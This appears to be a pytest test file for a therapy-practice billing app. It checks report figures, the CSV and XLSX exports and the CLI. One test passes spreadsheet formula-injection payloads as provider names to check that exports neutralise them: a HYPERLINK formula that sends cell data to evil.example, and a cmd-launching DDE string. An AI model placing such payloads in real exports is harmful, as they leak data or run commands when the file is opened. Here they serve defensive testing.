"""The Reports page's figures on a practice whose payer paid and denied a known set of lines:
revenue, days in A/R, aging, denials, unbilled work, authorization burn-down, productivity;
their CSV and XLSX exports and the CLI."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
from pathlib import Path

import pytest
from openpyxl import load_workbook
from paid import COPAY, paid_practice
from sqlalchemy import func, select
from typer.testing import CliRunner

from clock import TODAY
from therabill.cli.main import app
from therabill.errors import InvalidInput
from therabill.store.models import ClaimLine, ClaimRecord, LedgerEntry
from therabill.store.services import Store, auths, report_pages
from therabill.store.services.sessions import ServiceMinutes, add_session

runner = CliRunner()


def totals(store: Store) -> dict[str, int]:
    with store.sessions() as db:
        rows = db.execute(
            select(LedgerEntry.kind, func.sum(LedgerEntry.amount_cents)).group_by(LedgerEntry.kind)
        )
        return {k: int(v) for k, v in rows}


def report(store: Store, name: str, **options: object) -> report_pages.Report:
    with store.transaction() as work:
        return report_pages.build_report(work, name, today=TODAY, **options)  # type: ignore[arg-type]


def test_revenue_by_month_adds_up_to_the_ledger(practice: Store, tmp_path: Path) -> None:
    paid_practice(practice, tmp_path)
    ledger = totals(practice)
    found = report(practice, "revenue", end=TODAY + dt.timedelta(days=30))  # paid in 14 days
    assert found.figures["charges_cents"] == ledger["charge"]
    assert found.figures["collected_cents"] == ledger["insurance_payment"] + ledger.get(
        "patient_payment", 0
    )
    by_payer = report(practice, "revenue", by="payer")
    assert [row[0] for row in by_payer.rows] == ["Acme Health Plan"]
    by_code = {
        row[0]: row
        for row in report(practice, "revenue", by="code", end=TODAY + dt.timedelta(days=30)).rows
    }
    assert set(by_code) == {"97110", "97140"} and by_code["97140"][5] == 0  # denied: nothing in


def test_days_in_ar_is_what_is_owed_over_charges_per_day(practice: Store, tmp_path: Path) -> None:
    paid_practice(practice, tmp_path)
    found = report(practice, "ar-days")
    (acme, clients) = found.rows
    owed, charged, days = acme[1], acme[2], acme[3]
    assert days == round(owed / (charged / 90), 1)
    assert clients[0] == "Clients (their share)" and clients[1] == 6 * COPAY  # the copays
    owed_now = found.figures["owed_cents"]
    assert f"(owed ${owed_now // 100:,}.{owed_now % 100:02d} ÷" in found.note  # as money


def test_denials_by_reason_and_payer(practice: Store, tmp_path: Path) -> None:
    paid_practice(practice, tmp_path, paid=2, denied=3)
    found = report(practice, "denials", end=TODAY + dt.timedelta(days=30))  # opened when paid
    ((reason, payer, count, amount, still_open),) = found.rows
    assert (reason, payer, count, still_open) == ("CARC 96", "Acme Health Plan", 3, 3)
    with practice.sessions() as db:
        charged = db.execute(
            select(func.sum(ClaimLine.charge_cents)).where(ClaimLine.code == "97140")
        ).scalar()
    assert amount == charged


def test_aging_and_unbilled_work(practice: Store, tmp_path: Path) -> None:
    paid_practice(practice, tmp_path, paid=2, denied=1)
    with practice.transaction() as work:
        add_session(work=work, client="C-2", provider=1, day=TODAY - dt.timedelta(days=3),
                    services=[ServiceMinutes("97110", 30)], diagnoses=["M54.50"])  # fmt: skip
    insurance = report(practice, "aging-insurance")
    assert insurance.rows[0][0] == "Acme Health Plan" and insurance.rows[0][-1] > 0
    found = report(practice, "unbilled")
    assert ["Session not billed", "Lee, Pat", 1, None, 3] in found.rows


def test_authorization_burn_down_dates_the_run_out(practice: Store, tmp_path: Path) -> None:
    with practice.transaction() as work:
        auths.add_authorization(work=work, client="C-1", payer="Acme Health Plan", number="PA-1",
                                start=TODAY - dt.timedelta(days=90), end=TODAY + dt.timedelta(days=200),
                                codes=["97110", "97140"], units=40)  # fmt: skip
    paid_practice(practice, tmp_path, paid=6, denied=2)  # 16 units, all 35 to 60 days ago
    (row,) = report(practice, "authorizations").rows
    assert row[:7] == ["Example, Ada", "Acme Health Plan", "PA-1", 40, 16, 24, 0]
    assert row[7] == "not in use"
    assert report_pages.run_out(24, 8, today=TODAY) == TODAY + dt.timedelta(days=84)
    assert report_pages.run_out(0, 8, today=TODAY) == TODAY


def test_productivity_per_provider(practice: Store, tmp_path: Path) -> None:
    paid_practice(practice, tmp_path)
    ((name, sessions, units, charges, collected),) = report(practice, "productivity").rows
    ledger = totals(practice)
    assert (name, sessions, units) == ("Lee, Pat", 8, 16)
    assert charges == ledger["charge"] and collected == ledger["insurance_payment"]


def test_exports_carry_the_same_rows(practice: Store, tmp_path: Path) -> None:
    paid_practice(practice, tmp_path)
    with practice.transaction() as work:
        found = report_pages.all_reports(work, today=TODAY)
    assert [r.id for r in found] == list(report_pages.REPORTS)
    text = report_pages.to_csv(found[0])
    assert next(csv.reader(io.StringIO(text)))[:3] == ["Month", "Charges", "Insurance paid"]
    book = load_workbook(io.BytesIO(report_pages.to_xlsx(found)))
    assert book.sheetnames == [r.id for r in found]
    sheet = book["revenue"]
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0][0] == "Revenue and collections by month"
    money = sum(r[1] for r in rows[2:] if r and isinstance(r[1], (int, float)))
    assert round(money * 100) == found[0].figures["charges_cents"]


@pytest.mark.parametrize(
    "name",
    ['=HYPERLINK("http://evil.example/?"&A1, "Click")', "+SUM(1+1)*cmd|' /C calc'!A0",
     "@SUM(1)", "Lee\x01, Pat\x1f", "\x00=1+1"],
)  # fmt: skip
def test_exports_never_hold_a_formula_or_a_character_a_workbook_refuses(
    practice: Store, tmp_path: Path, name: str
) -> None:
    """A provider or payer name is typed by people (and by the API's generated requests,
    which found a name with a control character making every XLSX export fail: openpyxl's
    IllegalCharacterError). OWASP "CSV Injection": no cell starts a formula; XML 1.0: no C0
    control but tab, line feed and carriage return."""
    paid_practice(practice, tmp_path)
    found = report(practice, "productivity")
    found.rows = [[name, *row[1:]] for row in found.rows]
    (header, row) = list(csv.reader(io.StringIO(report_pages.to_csv(found))))
    assert header[0] == "Provider" and not row[0].startswith(("=", "+", "-", "@"))
    book = load_workbook(io.BytesIO(report_pages.to_xlsx([found])))
    (cell,) = [r[0] for r in book["productivity"].iter_rows(values_only=True)][2:3]
    assert isinstance(cell, str) and not cell.startswith(("=", "+", "-", "@"))
    assert not any(ord(c) < 32 and c not in "\t\n\r" for c in cell)
    assert cell.lstrip("'").replace("\x01", "").replace("\x1f", "") == (
        name.replace("\x01", "").replace("\x1f", "").replace("\x00", "")
    )


@pytest.mark.parametrize(
    ("name", "options", "field"),
    [("nothing", {}, "report"), ("revenue", {"by": "colour"}, "by"),
     ("revenue", {"start": TODAY, "end": TODAY - dt.timedelta(days=1)}, "from")],
    ids=["name", "by", "dates"],
)  # fmt: skip
def test_bad_requests_name_the_field(practice: Store, name: str, options: dict, field: str) -> None:  # type: ignore[type-arg]
    with practice.transaction() as work, pytest.raises(InvalidInput) as caught:
        report_pages.build_report(work, name, today=TODAY, **options)
    assert caught.value.field == field


def test_the_cli_prints_json_and_writes_csv_and_xlsx(
    practice: Store, tmp_path: Path, home: Path
) -> None:
    paid_practice(practice, tmp_path)
    later = (TODAY + dt.timedelta(days=30)).isoformat()
    result = runner.invoke(app, ["reports", "denials", "--to", later, "--json"])
    assert result.exit_code == 0, result.stderr
    assert json.loads(result.stdout)["rows"][0][:3] == ["CARC 96", "Acme Health Plan", 2]
    result = runner.invoke(app, ["reports", "--json"])
    assert [r["id"] for r in json.loads(result.stdout)] == list(report_pages.REPORTS)
    out = tmp_path / "rev.csv"
    assert (
        runner.invoke(app, ["reports", "revenue", "--by", "code", "--csv", str(out)]).exit_code == 0
    )
    assert out.read_text().startswith('"Code","Charges"')
    book = tmp_path / "all.xlsx"
    assert runner.invoke(app, ["reports", "--xlsx", str(book)]).exit_code == 0
    assert load_workbook(book).sheetnames[0] == "revenue"
    result = runner.invoke(app, ["reports", "--csv", str(out)])
    assert result.exit_code == 2 and result.stderr.startswith("Error: csv:")


def test_every_change_shows_at_once(practice: Store, tmp_path: Path) -> None:
    """Nothing is kept between looks: a new session or authorization shows on the next one
    (the sums are written with the rows, report_sums)."""
    paid_practice(practice, tmp_path, paid=2, denied=1)
    before = report(practice, "productivity")
    with practice.transaction() as work:
        add_session(work=work, client="C-1", provider=1, day=TODAY - dt.timedelta(days=1),
                    services=[ServiceMinutes("97110", 30)], diagnoses=["M54.50"])  # fmt: skip
    after = report(practice, "unbilled")
    assert ["Session not billed", "Lee, Pat", 1, None, 1] in after.rows
    sessions = {row[0]: row[1] for row in report(practice, "productivity").rows}
    assert sessions["Lee, Pat"] == {row[0]: row[1] for row in before.rows}["Lee, Pat"] + 1
    assert report(practice, "authorizations").rows == []
    with practice.transaction() as work:
        auths.add_authorization(work=work, client="C-1", payer="Acme Health Plan", number="PA-9",
                                start=TODAY - dt.timedelta(days=9), end=TODAY + dt.timedelta(days=9),
                                codes=["97110"], units=12)  # fmt: skip
    assert [r[2] for r in report(practice, "authorizations").rows] == ["PA-9"]


def test_visit_limits_count_days_billed_this_year_and_not_voided(
    practice: Store, tmp_path: Path
) -> None:
    """Acme's profile allows 30 PT visits a year (commercial.toml): eight billed days of
    service leave 22; a voided claim gives its visit back."""
    claims = paid_practice(practice, tmp_path)
    assert report(practice, "visit-limits").rows == [
        ["Example, Ada", "Acme Health Plan", "pt", 8, 30, 22]
    ]
    with practice.transaction() as work:
        voided = work.db.get(ClaimRecord, claims[0])
        assert voided is not None
        voided.status = "void"
    assert report(practice, "visit-limits").rows[0][3:] == [7, 30, 23]


def test_visit_limits_list_the_clients_nearest_their_limit_and_count_them_all(
    practice: Store, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Only ``VISIT_ROWS`` clients are listed (nearest the limit first: at 10,000 clients the
    whole list took 0.6 s); the note and the figures say how many there are."""
    paid_practice(practice, tmp_path)
    monkeypatch.setattr(report_pages, "VISIT_ROWS", 0)
    shown = report(practice, "visit-limits")
    assert shown.rows == [] and shown.figures["clients"] == 1
    assert shown.note.endswith("The 0 nearest their limit of 1 are listed.")


def test_client_aging_is_each_clients_share_of_owed_claims_by_age(
    practice: Store, tmp_path: Path
) -> None:
    """The client balances by age (summed per claim over the ledger, the claims' ages read
    apart): the same as the clients' share of every entry on a claim that is not a draft,
    by the claim's age, counted here in Python from the rows."""
    from collections import defaultdict

    from therabill.ledger import EntryKind, Responsibility, effect
    from therabill.store.services import build, reports

    paid_practice(practice, tmp_path, paid=4, denied=1)
    with practice.transaction() as work:  # a draft: what it carries is no one's debt yet
        add_session(work=work, client="C-1", provider=1, day=TODAY - dt.timedelta(days=100),
                    services=[ServiceMinutes("97110", 30)], diagnoses=["M5450"])  # fmt: skip
    with practice.transaction(actor="biller") as work:
        build.build_claims(work=work)
    with practice.sessions() as db:
        figures = reports.aging_now(db, today=TODAY, top_clients=25, payers=False)
        claims = {c.id: c for c in db.execute(select(ClaimRecord)).scalars()}
        expected: dict[int, dict[str, int]] = defaultdict(lambda: dict.fromkeys(reports.BUCKETS, 0))
        for entry in db.execute(select(LedgerEntry)).scalars():
            claim = claims.get(entry.claim_id) if entry.claim_id else None
            if claim is None or claim.status == "draft":
                continue
            age = (TODAY - claim.date_of_service).days
            bucket = reports.BUCKETS[min(max(age - 1, 0) // 30, 4)]
            share = effect(EntryKind(entry.kind), entry.amount_cents,
                           Responsibility(entry.responsibility)).patient_cents  # fmt: skip
            expected[entry.client_id][bucket] += share
    assert figures.by_client  # the copays
    assert [c.status for c in claims.values()].count("draft") == 1
    assert {figures.client_ids[name]: row for name, row in figures.by_client.items()} == {
        client_id: row for client_id, row in expected.items() if sum(row.values()) > 0
    }
